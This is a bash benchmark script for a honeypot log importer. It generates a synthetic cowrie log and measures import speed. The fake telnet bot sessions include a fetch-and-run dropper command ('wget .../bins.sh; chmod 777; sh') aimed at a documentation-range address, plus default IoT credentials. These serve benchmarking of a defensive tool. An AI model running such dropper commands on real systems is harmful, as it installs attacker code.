#!/usr/bin/env bash
# `honeyport import --format cowrie` benchmark: import rate of cowrie JSON in events/s.
# Runnable from a fresh clone, no network:
#
#   bench/import.sh
#
# Builds honeyport (release), generates a realistic cowrie.json (a fixed seed; default about
# 1,000,000 cowrie events: SSH brute force with version, kex and several failed logins, telnet
# bots logging in and running a dropper, silent port scans, sessions interleaved as in a real
# log), then imports it into a fresh store and measures:
#   1. the first import: cowrie events read per second and honeyport events written per second
#      (the importer adds a session.classified per session), peak RSS;
#   2. the same file again (every session already in the store: nothing written), events/s;
#   3. the same file gzipped, into another fresh store (decompression cost).
# and checks the store: sessions and login attempts as generated. Appends a dated section to
# BENCHMARKS.md.
#
# Knobs: BENCH_SKIP_BUILD=1, HP_BENCH_TARGET=DIR (cargo target dir, default
# /tmp/hp-bench-target), BENCH_IMPORT_EVENTS=N (default 1000000), BENCH_OUT=FILE,
# BENCH_NOTE="text", BENCH_KEEP_DATA=1.
set -euo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
repo="$(cd "$here/.." && pwd)"
target="${HP_BENCH_TARGET:-/tmp/hp-bench-target}"
out="${BENCH_OUT:-$repo/BENCHMARKS.md}"
events="${BENCH_IMPORT_EVENTS:-1000000}"

log() { printf '[bench-import %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }
command -v python3 >/dev/null || die "python3 is needed to generate the cowrie log"

work="$(mktemp -d /tmp/hp-bench-import.XXXXXX)"
log "work dir: $work"

if [[ "${BENCH_SKIP_BUILD:-0}" != 1 ]]; then
  log "building honeyport (release, CARGO_TARGET_DIR=$target)"
  (cd "$repo" && CARGO_TARGET_DIR="$target" cargo build --release -p honeyport)
fi
hp="$target/release/honeyport"
[[ -x "$hp" ]] || die "missing binary $hp (run without BENCH_SKIP_BUILD=1)"

# ------------------------------------------------------------------- the cowrie log
log "generating about $events cowrie events"
python3 - "$events" "$work/cowrie.json" >"$work/generated" <<'PY'
import json, random, sys

target, path = int(sys.argv[1]), sys.argv[2]
rnd = random.Random(26)
t0 = 1_600_000_000.0  # 2020-09-13
users = ["root", "admin", "user", "test", "ubuntu", "oracle", "pi", "support", "guest", "ftp"]
words = ["123456", "password", "admin", "root", "1234", "12345678", "qwerty", "111111", "toor", "default"]
kex = {
    "hassh": "92674389fa1e47a27ddd8d9b63ecd42b",
    "hasshAlgorithms": "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-ctr;hmac-sha2-256;none",
    "kexAlgs": ["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"],
    "keyAlgs": ["ssh-rsa", "rsa-sha2-512", "ssh-ed25519"],
    "encCS": ["aes128-ctr", "aes256-ctr"], "macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": [""],
}
versions = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.8.0", "SSH-2.0-PuTTY_Release_0.70", "SSH-2.0-paramiko_2.7.1"]

def ts(t):
    s = int(t)
    us = int((t - s) * 1e6)
    import time
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + ".%06dZ" % us

def session(i, t):
    sid = "%012x" % rnd.getrandbits(48)
    src = "%d.%d.%d.%d" % (rnd.randint(1, 223), rnd.randint(0, 255), rnd.randint(0, 255), rnd.randint(1, 254))
    kind = rnd.random()
    telnet = 0.6 <= kind < 0.85
    port = 23 if telnet else rnd.choice([22, 22, 22, 2222])
    base = {"session": sid, "src_ip": src, "sensor": "bench"}
    evs = [dict(eventid="cowrie.session.connect", src_port=rnd.randint(1024, 65535), dst_ip="198.51.100.2",
                dst_port=port, protocol="telnet" if telnet else "ssh",
                message="New connection: %s:%d (198.51.100.2:%d) [session: %s]" % (src, 0, port, sid))]
    if kind < 0.6:
        evs.append(dict(eventid="cowrie.client.version", version=rnd.choice(versions), message="Remote SSH version"))
        evs.append(dict(eventid="cowrie.client.kex", message="SSH client hassh fingerprint", **kex))
        for _ in range(rnd.randint(1, 6)):
            u, p = rnd.choice(users), rnd.choice(words)
            evs.append(dict(eventid="cowrie.login.failed", username=u, password=p,
                            message="login attempt [%s/%s] failed" % (u, p)))
    elif telnet:
        for _ in range(rnd.randint(0, 2)):
            evs.append(dict(eventid="cowrie.login.failed", username="root", password=rnd.choice(words),
                            message="login attempt failed"))
        evs.append(dict(eventid="cowrie.login.success", username="root", password="xc3511", message="login attempt succeeded"))
        for c in ["enable", "system", "shell", "sh", "/bin/busybox ECCHI",
                  "cd /tmp; wget http://192.0.2.%d/bins.sh; chmod 777 bins.sh; sh bins.sh" % rnd.randint(1, 254)]:
            evs.append(dict(eventid="cowrie.command.input", input=c, message="CMD: " + c))
        evs.append(dict(eventid="cowrie.session.file_download", url="http://192.0.2.1/bins.sh",
                        outfile="var/lib/cowrie/downloads/" + "ab" * 32, shasum="ab" * 32, message="Downloaded URL"))
        evs.append(dict(eventid="cowrie.command.failed", input="./bins.sh telnet", message="Command not found"))
    evs.append(dict(eventid="cowrie.session.closed", duration=round(rnd.uniform(0.1, 30), 1), message="Connection lost"))
    out = []
    for k, e in enumerate(evs):
        e.update(base)
        out.append((t + k * 0.35, e))
    return out

written = sessions = logins = 0
pending = []  # (time, line) of open sessions, written in time order: sessions interleave
t = t0
with open(path, "w") as f:
    while written < target:
        t += rnd.expovariate(20.0)
        evs = session(sessions, t)
        sessions += 1
        logins += sum(1 for _, e in evs if e["eventid"].startswith("cowrie.login."))
        pending.extend(evs)
        if len(pending) > 4000:
            pending.sort(key=lambda x: x[0])
            cut = [p for p in pending if p[0] <= t]
            pending = [p for p in pending if p[0] > t]
            for when, e in cut:
                e["timestamp"] = ts(when)
                f.write(json.dumps(e) + "\n")
                written += 1
    pending.sort(key=lambda x: x[0])
    for when, e in pending:
        e["timestamp"] = ts(when)
        f.write(json.dumps(e) + "\n")
        written += 1
print(written, sessions, logins)
PY
read -r gen_events gen_sessions gen_logins <"$work/generated"
size="$(du -m "$work/cowrie.json" | cut -f1)"
log "generated $gen_events events, $gen_sessions sessions, $gen_logins logins ($size MB)"

loadavg() { cut -d' ' -f1-3 /proc/loadavg; }
started_at="$(date -u '+%Y-%m-%d %H:%M:%S UTC')"
cpu_model="$(sed -n 's/^model name[[:space:]]*: //p' /proc/cpuinfo | head -n1)"
mem_total="$(awk '/^MemTotal:/ {printf "%.1f GiB", $2 / 1048576}' /proc/meminfo)"
commit="$(git -C "$repo" rev-parse --short HEAD 2>/dev/null || echo unknown)"
if [[ -n "$(git -C "$repo" status --porcelain --untracked-files=no -- crates 2>/dev/null)" ]]; then
  commit="$commit (crates/ modified)"
fi
load_start="$(loadavg)"

# run NAME DATADIR FILE: imports FILE; the summary JSON in $work/NAME.json, peak RSS (KiB) in
# $work/NAME.rss.
run() {
  local name="$1" data="$2" file="$3"
  log "$name: honeyport import --format cowrie $(basename "$file")"
  local timer=()
  if [[ -x /usr/bin/time ]]; then timer=(/usr/bin/time -f '%M' -o "$work/$name.rss"); else echo 0 >"$work/$name.rss"; fi
  "${timer[@]}" "$hp" --data-dir "$data" import --format cowrie --json "$file" >"$work/$name.json" 2>"$work/$name.stderr" \
    || die "$name failed: $(cat "$work/$name.stderr")"
}
jnum() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$1" "$2"; }
rate() { awk -v n="$1" -v s="$2" 'BEGIN { printf "%.0f", n / s }'; }

run first "$work/data" "$work/cowrie.json"
run again "$work/data" "$work/cowrie.json"
log "gzip"
gzip -c "$work/cowrie.json" >"$work/cowrie.json.gz"
run gz "$work/data-gz" "$work/cowrie.json.gz"
load_end="$(loadavg)"

db="$work/data/honeyport.db"
stored_sessions="$(sqlite3 -readonly "$db" "SELECT count(*) FROM sessions")"
stored_logins="$(sqlite3 -readonly "$db" "SELECT count(*) FROM events WHERE eventid IN ('login.failed', 'login.success')")"
db_mb="$(du -m "$db" | cut -f1)"

rows=()
for name in first again gz; do
  j="$work/$name.json"
  lines="$(jnum "$j" lines)" evs="$(jnum "$j" events)" secs="$(jnum "$j" elapsed_secs)"
  rows+=("| $name | $lines | $evs | $(jnum "$j" sessions_new) | $(jnum "$j" sessions_existing) | $(printf '%.2f' "$secs") | $(rate "$lines" "$secs") | $(rate "$evs" "$secs") | $(awk -v k="$(cat "$work/$name.rss")" 'BEGIN { printf "%.1f", k / 1024 }') MB |")
done
first_rate="$(rate "$(jnum "$work/first.json" lines)" "$(jnum "$work/first.json" elapsed_secs)")"
check="sessions in store $stored_sessions of $gen_sessions generated, login attempts $stored_logins of $gen_logins"
log "first import: $first_rate cowrie events/s; $check"

{
  echo
  echo "## $started_at: cowrie import (bench/import.sh)"
  echo
  echo "- commit $commit; $cpu_model, $(nproc) cores, $mem_total RAM; load average $load_start at start, $load_end at end"
  [[ -n "${BENCH_NOTE:-}" ]] && echo "- note: $BENCH_NOTE"
  echo "- input: generated cowrie.json, $gen_events events ($size MB), $gen_sessions sessions (60% SSH brute force, 25% telnet bots with a dropper, 15% silent), seed 26; store: SQLite with synchronous = normal, $db_mb MB after the first import"
  echo "- raw output: $work"
  echo
  echo "| run | cowrie events read | events written | sessions new | sessions already stored | seconds | cowrie events/s | written events/s | peak RSS |"
  echo "|---|---|---|---|---|---|---|---|---|"
  printf '%s\n' "${rows[@]}"
  echo
  echo "- check: $check"
  echo "- **import rate: $first_rate cowrie events/s** (first import, plain file)"
} >"$work/section.md"
cat "$work/section.md" >>"$out"
cat "$work/section.md"
log "appended to $out"
[[ "${BENCH_KEEP_DATA:-0}" == 1 ]] || rm -rf "$work/data" "$work/data-gz" "$work/cowrie.json" "$work/cowrie.json.gz"
